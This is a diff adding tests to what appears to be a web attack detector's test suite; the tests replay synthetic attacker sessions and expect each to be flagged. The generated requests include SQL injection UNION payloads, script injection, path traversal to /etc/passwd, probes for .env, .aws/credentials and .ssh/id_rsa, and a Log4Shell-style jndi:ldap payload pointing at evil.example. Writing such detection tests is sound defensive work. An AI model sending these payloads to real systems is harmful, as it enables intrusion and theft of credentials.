@@ -75,3 +75,44 @@ describe('honest sessions meet no refusal and no measure of the default configur
 
   test('there are at least twelve kinds of them', () => assert.ok(Object.keys(HONEST_SESSIONS).length >= 12))
 })
+
+/** Requests of tools as they send them, without what names them: the agent is a library's. */
+const TOOLS: Readonly<Record<string, (n: number) => Partial<HonestRequest>>> = {
+  'a search for names of pages': n => ({
+    target: `/${['admin', 'backup', 'old', 'test', 'dev'][n % 5]}-${n}`,
+    status: 404,
+  }),
+  'a search for files that should not be served': n => ({
+    target: `/${['.git/config', '.env', '.aws/credentials', '.htpasswd', 'dump.sql', 'backup.zip', '.ssh/id_rsa'][n % 7]}?${n}`,
+    status: 404,
+  }),
+  'SQL injection into an id': n => ({
+    target: `/products?id=1%27%20UNION%20ALL%20SELECT%20NULL%2C${n}--%20`,
+    status: 500,
+  }),
+  'SQL injection into a field of search': n => ({
+    target: `/search?q=1%27%20UNION%20ALL%20SELECT%20NULL%2C${n}--%20`,
+  }),
+  'script into every parameter': n => ({ target: `/products?p${n}=%3Cscript%3Ealert(${n})%3C/script%3E` }),
+  'directories climbed': n => ({ target: `/download?name=${'..%2f'.repeat((n % 8) + 1)}etc%2fpasswd${n}` }),
+  'payloads of known exploits': n => ({ target: `/?x${n}=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2F${n}%7D` }),
+  'passwords guessed': n => ({ method: 'POST', target: n % 2 === 0 ? '/login' : '/signin', status: 401 }),
+  'ids of others, counted': n => ({ target: `/api/invoices/${n + 1}`, status: n % 3 === 0 ? 200 : 403 }),
+}
+
+describe('tools of attackers meet a measure of the default configuration', () => {
+  for (const [name, make] of Object.entries(TOOLS)) {
+    test(name, async () => {
+      const session = Array.from({ length: 120 }, (_, n) => ({
+        at: n * 200,
+        method: 'GET',
+        target: '/',
+        status: 200,
+        headers: ['User-Agent', 'python-requests/2.32'],
+        ...make(n),
+      }))
+      const { measures } = await outcomeOf(session, 1)
+      assert.notDeepEqual(measures, [])
+    })
+  }
+})
